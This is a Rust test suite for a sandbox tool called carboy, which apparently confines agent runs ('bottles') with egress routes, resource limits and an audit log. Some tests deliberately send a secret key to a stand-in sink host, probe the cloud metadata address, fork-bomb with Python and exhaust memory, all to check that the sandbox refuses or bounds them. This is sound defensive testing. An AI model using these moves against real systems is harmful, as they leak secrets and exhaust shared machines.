//! Runs that live: listed, looked into, stopped, given new routes, bounded, and gone without a trace.

use std::io::{BufRead, BufReader};
use std::os::unix::fs::MetadataExt;
use std::process::{Child, ChildStdout, Output, Stdio};
use std::time::Duration;

use carboy_sim::probe::Report;
use serde_json::Value;

use crate::terminal::Screen;
pub use crate::waiting::within;
use crate::world::{Agent, CANARY, Person, REAL_KEY, World, reason};
use crate::{Case, case, case_with};

/// Longest wait for something that happens by itself.
const HAPPEN_WAIT_MAX: Duration = Duration::from_secs(30);
/// A changed file is taken over within this.
const RELOAD_WAIT_MAX: Duration = Duration::from_secs(2);
const NOTES: &str = "https://notes.example/page/clean";

pub fn cases() -> Vec<Case> {
    vec![
        case("E11 ps lists what lives, with its counters, and nothing else", ps),
        case("logs shows what a run asked for, and --refused what it did not get", logs),
        case("E11 stop asks the program, and stop --kill does not", stop),
        case("stop --all ends every run, and a bottle's name ends that bottle's", stop_all),
        case("E2 an allowed route is taken over by a run that lives", allow),
        case("E2 an invalid file keeps the old routes and says so; a withdrawn route closes", reload),
        case("two bottles at once write one log, and it verifies", two_bottles),
        case("what a killed supervisor leaves is cleaned up, and its program is gone", killed_supervisor),
        case_with("a fork bomb is bounded", &["/usr/bin/python3"], fork_bomb),
        case_with("the memory limit holds", &["/usr/bin/python3"], memory_limit),
        case("a run leaves no litter", no_litter),
        case("a directory that is never shown is refused before anything of it is kept", never_shown),
        case("an outage is told as a failure, and counted apart from what was refused", outage),
        case_with("ps fits the terminal, and says more without one", &["tmux"], narrow),
    ]
}

/// A run under way whose program has said that it is ready.
pub struct Live {
    pub child: Child,
    out: BufReader<ChildStdout>,
}

impl Live {
    pub fn start(world: &World, bottle: &str, script: &str) -> Live {
        Live::start_with(world, &["--bottle", bottle], script)
    }

    pub fn start_with(world: &World, flags: &[&str], script: &str) -> Live {
        let mut arguments = vec!["run", "--another"];
        arguments.extend(flags);
        arguments.extend(["--", "sh", "-c", script]);
        let mut child = world.carboy(&arguments).stdin(Stdio::null()).spawn().unwrap();
        let out = BufReader::new(child.stdout.take().unwrap());
        let mut live = Live { child, out };
        assert_eq!(live.line(), "ready\n");
        live
    }

    pub fn line(&mut self) -> String {
        let mut line = String::new();
        self.out.read_line(&mut line).unwrap();
        line
    }

    /// Its exit code.
    pub fn end(mut self) -> Option<i32> {
        within(HAPPEN_WAIT_MAX, "the run ends", || self.child.try_wait().unwrap()).code()
    }
}

/// Runs a command of carboy's to its end.
pub fn carboy(world: &World, arguments: &[&str]) -> Output {
    world.carboy(arguments).output().unwrap()
}

pub fn stdout(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).unwrap()
}

pub fn stderr(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

pub fn living(world: &World) -> Vec<Value> {
    serde_json::from_slice(&carboy(world, &["ps", "--json"]).stdout).unwrap()
}

fn get(agent: &mut Agent<'_>, url: &str) -> Report {
    agent.http("GET", url, &[], b"")
}

fn ps(person: Person) {
    let world = World::new(person);
    let mut agent = world.agent();
    assert_eq!(get(&mut agent, NOTES).status, Some(200));
    get(&mut agent, "https://169.254.169.254/");
    let [run] = &living(&world)[..] else { panic!("one run lives") };
    assert_eq!(run["record"]["bottle"], "test");
    assert_eq!((&run["state"], &run["tier"]), (&"running".into(), &"T1".into()), "{run}");
    assert_eq!((&run["requests"], &run["refusals"]), (&2.into(), &1.into()), "{run}");
    let table = stdout(&carboy(&world, &["ps"]));
    let lines: Vec<&str> = table.lines().collect();
    assert!(lines.len() == 2 && lines[0].starts_with("RUN ") && lines[1].contains("test"), "{table}");
    agent.finish().expect_code(0);
    assert_eq!(living(&world), Vec::<Value>::new());
    let output = carboy(&world, &["ps"]);
    assert_eq!(
        (output.status.code(), stdout(&output), stderr(&output)),
        (Some(0), String::new(), "nothing runs\n".into())
    );
}

fn logs(person: Person) {
    let world = World::new(person);
    assert_eq!(carboy(&world, &["logs"]).status.code(), Some(1));
    let mut agent = world.agent();
    get(&mut agent, NOTES);
    get(&mut agent, "https://api.openai.com/v1/models");
    agent.http("POST", "https://notes.example/sink", &[], format!("key={REAL_KEY}").as_bytes());
    let ran = agent.finish().expect_code(0);
    let all = stdout(&carboy(&world, &["logs"]));
    assert!(all.contains("notes.example/page/clean") && all.contains("secret_known"), "{all}");
    assert!(!all.contains(REAL_KEY) && !all.contains(CANARY), "{all}");
    let refused = stdout(&carboy(&world, &["logs", "--refused"]));
    assert!(refused.contains("secret_known") && !refused.contains("/page/clean"), "{refused}");
    let run = ran.summary["run"].as_str().unwrap();
    assert_eq!(stdout(&carboy(&world, &["logs", run])), all);
    assert_eq!(stdout(&carboy(&world, &["logs", "test"])), all);
    // Each line of --json is an entry of the log, as it stands there.
    let json = stdout(&carboy(&world, &["logs", "--json", run]));
    let file = std::fs::read_to_string(world.dir.join("home/audit/audit.jsonl")).unwrap();
    assert_eq!(json, file);
    let nobody = carboy(&world, &["logs", "nobody"]);
    assert!(nobody.status.code() == Some(1) && stderr(&nobody).contains("`nobody`"), "{nobody:?}");
}

fn stop(person: Person) {
    let world = World::new(person);
    let polite = Live::start(&world, "test", "trap 'exit 6' TERM; echo ready; while :; do sleep 0.05; done");
    let run = living(&world)[0]["record"]["run"].as_str().unwrap().to_owned();
    assert_eq!(carboy(&world, &["stop", &run]).status.code(), Some(0));
    assert_eq!(polite.end(), Some(6));

    let deaf = Live::start(&world, "test", "trap '' TERM; echo ready; while :; do sleep 0.05; done");
    carboy(&world, &["stop", "--no-wait", "test"]);
    assert_eq!(living(&world)[0]["state"], "stopping");
    assert_eq!(carboy(&world, &["stop", "--kill", "test"]).status.code(), Some(0));
    assert_eq!(deaf.end(), Some(137));
    // Who ended them is in the log.
    let operator: Vec<String> = world
        .log()
        .iter()
        .filter(|entry| entry.text("event_type") == Some("operator"))
        .map(|entry| entry.text("action").unwrap().to_owned())
        .collect();
    assert_eq!(operator, ["stop", "stop", "kill"]);
    let nobody = carboy(&world, &["stop", "nobody"]);
    assert!(nobody.status.code() == Some(1) && stderr(&nobody).contains("hint: "), "{nobody:?}");
}

fn stop_all(person: Person) {
    let world = World::new(person);
    world.write("home/bottles/other.md", "---\n---\nAnother one.\n");
    let wait = "echo ready; exec sleep 300";
    let (first, second) = (Live::start(&world, "test", wait), Live::start(&world, "other", wait));
    let third = Live::start(&world, "other", wait);
    carboy(&world, &["stop", "test"]);
    assert_eq!(first.end(), Some(143));
    assert_eq!(living(&world).len(), 2);
    assert_eq!(carboy(&world, &["stop", "--all"]).status.code(), Some(0));
    assert_eq!((second.end(), third.end()), (Some(143), Some(143)));
    let again = carboy(&world, &["stop", "--all"]);
    assert_eq!((again.status.code(), stderr(&again)), (Some(0), "nothing runs\n".into()));
}

fn allow(person: Person) {
    let world = World::new(person);
    world.bottle("egress:\n  routes:\n    # the one\n    - host: plain.example\n");
    let mut agent = world.agent();
    assert!(get(&mut agent, NOTES).error.is_some(), "the name resolves before it is allowed");
    let dry = carboy(&world, &["allow", "notes.example", "-b", "test", "--path", "/page", "--dry-run"]);
    assert!(stdout(&dry).contains("+    - host: \"notes.example\"\n"), "{dry:?}");
    let file = || std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap();
    assert!(!file().contains("notes.example"));
    // The file may be a link into somebody's own collection; it stays one.
    let (link, kept) = (world.dir.join("home/bottles/test.md"), world.dir.join("kept.md"));
    std::fs::rename(&link, &kept).unwrap();
    std::os::unix::fs::symlink(&kept, &link).unwrap();
    let done = carboy(&world, &["allow", "notes.example", "-b", "test", "--path", "/page", "--yes"]);
    assert!(link.is_symlink());
    assert_eq!(done.status.code(), Some(0), "{done:?}");
    assert!(file().contains("# the one") && file().contains("notes.example"), "{}", file());
    within(RELOAD_WAIT_MAX, "the new route", || (get(&mut agent, NOTES).status == Some(200)).then_some(()));
    // It is as narrow as it was asked for.
    assert_eq!(reason(&get(&mut agent, "https://notes.example/echo")), Some("request_not_allowed"));
    let ran = agent.finish().expect_code(0);
    assert!(ran.entries.iter().any(|entry| entry.text("action") == Some("reload_routes")));
    // Said again it changes nothing, and an address that was pasted is told what it should have been.
    let before = file();
    let again = carboy(&world, &["allow", "notes.example", "-b", "test", "--path", "/page"]);
    assert!(again.status.success() && file() == before, "{again:?}");
    let pasted = carboy(&world, &["allow", "https://x.example:8443/a", "-b", "test"]);
    assert_eq!(pasted.status.code(), Some(2), "{pasted:?}");
    assert!(String::from_utf8_lossy(&pasted.stderr).contains("`carboy allow x.example --port 8443"), "{pasted:?}");
    let wrong = carboy(&world, &["allow", "*", "-b", "test"]);
    assert_eq!(wrong.status.code(), Some(2), "{wrong:?}");
    assert_eq!(carboy(&world, &["allow", "x.example", "-b", "nobody"]).status.code(), Some(78));
}

fn reload(person: Person) {
    let world = World::new(person);
    let mut agent = world.agent();
    assert_eq!(get(&mut agent, NOTES).status, Some(200));
    world.bottle("egress: {routes: [{host: \"https://notes.example\"}]}\n");
    let reloads = |result: &str| {
        let log = world.log();
        let fits = |e: &&carboy_core::audit::Entry| {
            e.text("action") == Some("reload_routes") && e.text("result") == Some(result)
        };
        (log.iter().filter(fits).count() == 1).then_some(())
    };
    within(RELOAD_WAIT_MAX, "the invalid file is noticed", || reloads("failed"));
    assert_eq!(get(&mut agent, NOTES).status, Some(200), "the old routes stay");
    world.bottle("budget: {claude: 5M}\nceiling: {claude: 9M}\negress: {routes: [{host: plain.example}]}\n");
    within(RELOAD_WAIT_MAX, "the next file is noticed", || reloads("done"));
    // M34: its budgets hold as well.
    let caps = |entry: &carboy_core::audit::Entry| entry.detail("caps")?.as_u64();
    assert_eq!(world.log().iter().find_map(caps), Some(2));
    assert_eq!(get(&mut agent, "https://plain.example/page/clean").status, Some(200));
    let closed = get(&mut agent, NOTES);
    assert!(closed.error.is_some() || reason(&closed) == Some("host_not_allowed"), "{closed:?}");
    let ran = agent.finish().expect_code(0);
    assert!(ran.stderr.contains("the changed file is not valid, the old routes stay"), "{}", ran.stderr);
    assert!(ran.stderr.contains("test.md:2:"), "{}", ran.stderr);
}

fn two_bottles(person: Person) {
    let world = World::new(person);
    let (mut first, mut second) = (world.agent(), world.agent());
    for _ in 0..5 {
        assert_eq!(get(&mut first, NOTES).status, Some(200));
        assert_eq!(get(&mut second, NOTES).status, Some(200));
    }
    assert_eq!(living(&world).len(), 2);
    first.finish().expect_code(0);
    second.finish().expect_code(0);
    let verified = carboy(&world, &["audit", "verify"]);
    assert!(verified.status.success() && stdout(&verified).starts_with("VALID: "), "{verified:?}");
    let mut runs: Vec<String> = world.log().iter().filter_map(|e| e.text("run").map(str::to_owned)).collect();
    runs.sort_unstable();
    runs.dedup();
    assert_eq!(runs.len(), 2);
}

/// The ledger and who keeps it outlive a run.
fn is_controllers(entry: &std::fs::DirEntry) -> bool {
    let name = entry.file_name().into_string().unwrap();
    name.starts_with("controller") || name.starts_with("carboy.db")
}

fn killed_supervisor(person: Person) {
    let world = World::new(person);
    // The marker is how the program is found from outside, whatever its number there.
    let marker = format!("86400.{}", std::fs::metadata(&world.dir).unwrap().ino());
    let mut live = Live::start(&world, "test", &format!("echo ready; exec sleep {marker}"));
    let runs = world.dir.join("home/run");
    let of_runs = || std::fs::read_dir(&runs).unwrap().flatten().filter(|entry| !is_controllers(entry)).count();
    assert_eq!(of_runs(), 2, "a record and a socket");
    let pid = i32::try_from(living(&world)[0]["record"]["supervisor_pid"].as_i64().unwrap()).unwrap();
    let sleeps = || {
        let processes = std::fs::read_dir("/proc").unwrap().flatten();
        processes
            .into_iter()
            .filter_map(|p| std::fs::read(p.path().join("cmdline")).ok())
            .any(|line| line.starts_with(b"sleep\0") && line.windows(marker.len()).any(|w| w == marker.as_bytes()))
    };
    within(HAPPEN_WAIT_MAX, "the program sleeps", || sleeps().then_some(()));
    rustix::process::kill_process(rustix::process::Pid::from_raw(pid).unwrap(), rustix::process::Signal::KILL).unwrap();
    live.child.wait().unwrap();
    within(HAPPEN_WAIT_MAX, "nothing goes on without its door", || (!sleeps()).then_some(()));
    assert_eq!(living(&world), Vec::<Value>::new());
    assert_eq!(of_runs(), 0);
    // The next run goes on with the same log.
    world.run(&["true"]).expect_code(0);
    assert!(carboy(&world, &["audit", "verify"]).status.success());
}

fn never_shown(person: Person) {
    let world = World::new(person);
    for dir in ["/tmp", world.dir.join("user").to_str().unwrap()] {
        std::fs::create_dir_all(world.dir.join("user")).unwrap();
        let output = carboy(&world, &["run", "-b", "test", "-w", dir, "--", "true"]);
        assert_eq!(output.status.code(), Some(77), "{output:?}");
        assert!(stderr(&output).contains("cannot be shown to a bottle"), "{output:?}");
        assert!(!world.dir.join("home/state/test").exists());
    }
    // Without an overlay no change is kept, but what the directory was: that is how it is called.
    world.run(&["true"]).expect_code(0);
    let parts = stdout(&carboy(&world, &["bottle", "du", "test"]));
    assert!(parts.contains(&format!("the index of {}", world.project.display())), "{parts}");
    assert!(!parts.contains("its changes of"), "{parts}");
}

fn outage(person: Person) {
    let world = World::new(person);
    // Nobody listens there: the port was free a moment ago, and nobody else takes one of this number by chance.
    let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    world.settings(&format!("  dead.example: {{address: \"{dead}\", tls: false}}\n"));
    world.bottle("egress: {routes: [{host: dead.example}, {host: notes.example}]}\n");
    let mut agent = world.agent();
    let report = get(&mut agent, "http://dead.example/x");
    assert_eq!((report.status, reason(&report)), (Some(502), Some("upstream_unreachable")), "{report:?}");
    assert!(report.body.contains("carboy could not get it") && !report.body.contains("refused this"), "{report:?}");
    let [run] = &living(&world)[..] else { panic!("one run lives") };
    assert_eq!((&run["refusals"], &run["failures"]), (&0.into(), &1.into()), "{run}");
    let metadata = get(&mut agent, "http://169.254.169.254/latest");
    assert!(metadata.body.contains("nothing opens a metadata"), "{metadata:?}"); // B32
    let ran = agent.finish().expect_code(0);
    let refusals = ran.summary["refusals"].as_array().unwrap();
    let kinds: Vec<_> = refusals.iter().map(|r| (r["kind"].as_str().unwrap(), r["reason"].as_str().unwrap())).collect();
    assert!(kinds.contains(&("failed", "upstream_unreachable")), "{kinds:?}");
    assert!(kinds.contains(&("refused", "address_not_allowed")), "{kinds:?}");
    assert!(ran.stderr.contains("  failed     1 × upstream_unreachable"), "{}", ran.stderr);
    let refused = stdout(&carboy(&world, &["logs", "--refused"]));
    assert!(refused.contains("address_not_allowed") && !refused.contains("upstream_unreachable"), "{refused}");
    assert!(stdout(&carboy(&world, &["logs"])).contains("upstream_unreachable"));
}

fn narrow(person: Person) {
    let world = World::new(person);
    let words = "a task that is told in so many words that no line of a terminal holds all of them at once";
    let live = Live::start(&world, "test", &format!("echo ready; : {words}; sleep 300"));
    let run = living(&world)[0]["record"]["run"].as_str().unwrap().to_owned();
    let piped = stdout(&carboy(&world, &["ps"]));
    assert!(piped.contains("at once") && piped.contains("OUT"), "{piped}");
    for (arguments, is_whole) in [(vec!["ps"], false), (vec!["ps", "-a"], false), (vec!["ps", "--no-trunc"], true)] {
        let screen = Screen::open(&world, &arguments);
        let text = screen.see("over with 0");
        let line = text.lines().find(|line| line.starts_with(&run)).unwrap();
        assert_eq!((line.contains("at once"), line.chars().count() <= 100), (is_whole, !is_whole), "{text}");
        assert!(line.contains(" sh ") && line.contains('…') != is_whole, "{text}");
    }
    assert_eq!(carboy(&world, &["stop", "--kill", &run]).status.code(), Some(0));
    live.end();
}

fn fork_bomb(person: Person) {
    let world = World::new(person);
    world.bottle("limits: {processes: 64}\n");
    let program = "import os, signal\n\
                   children = []\n\
                   try:\n\
                   \x20   while len(children) < 500:\n\
                   \x20       pid = os.fork()\n\
                   \x20       if pid == 0: signal.pause()\n\
                   \x20       children.append(pid)\n\
                   except OSError as e: print(e.errno, len(children))";
    let ran = world.run(&["/usr/bin/python3", "-c", program]).expect_code(0);
    let (errno, count) = ran.stdout.trim().split_once(' ').unwrap();
    let count: u32 = count.parse().unwrap();
    assert_eq!(errno, "11", "EAGAIN");
    assert!((32..64).contains(&count), "{count}");
    // The bound is this run's and not the user's: the next one starts.
    world.run(&["true"]).expect_code(0);
}

fn memory_limit(person: Person) {
    let world = World::new(person);
    world.bottle("limits: {memory: 128MiB}\n");
    let program = "import sys; b = bytearray(int(sys.argv[1]) << 20); print('holds', len(b) >> 20)";
    let ran = world.run(&["/usr/bin/python3", "-c", program, "16"]).expect_code(0);
    assert_eq!(ran.stdout, "holds 16\n");
    let ran = world.run(&["/usr/bin/python3", "-c", program, "512"]);
    // Killed where a control group bounds all of it; told that there is no more where only each process is bounded.
    assert!(ran.stdout.is_empty() && [1, 137].contains(&ran.code), "{ran:?}");
}

fn no_litter(person: Person) {
    let world = World::new(person);
    let mut agent = world.agent();
    assert_eq!(get(&mut agent, NOTES).status, Some(200));
    let run = living(&world)[0]["record"]["run"].as_str().unwrap().to_owned();
    agent.finish().expect_code(0);
    world.sh("git init -q . && rm -rf .git && mkdir /tmp/inside && touch /tmp/inside/x").expect_code(0);
    let list = |path: &str| {
        let entries = std::fs::read_dir(world.dir.join(path)).unwrap().flatten();
        let entries = entries.filter(|entry| !is_controllers(entry));
        let mut names: Vec<String> = entries.map(|entry| entry.file_name().into_string().unwrap()).collect();
        names.sort_unstable();
        names
    };
    assert_eq!(list("project"), Vec::<String>::new(), "no stubs in the workspace");
    assert_eq!(list("home/run"), Vec::<String>::new());
    assert_eq!(list("home"), ["agents", "audit", "bottles", "ca", "provider.pem", "run", "settings.yml", "state"]);
    assert_eq!(list("home/state"), ["stubs.lock", "test"]);
    assert_eq!(list("home/state/test"), ["home", "lock", "runs", "workspace"]);
    assert_eq!(list("home/audit"), ["audit.jsonl"]);
    assert!(!std::path::Path::new("/tmp/inside").exists());
    let groups =
        std::process::Command::new("find").args(["/sys/fs/cgroup", "-name", &format!("*{run}*")]).output().unwrap();
    assert_eq!(stdout(&groups), "", "no control group stays");
}
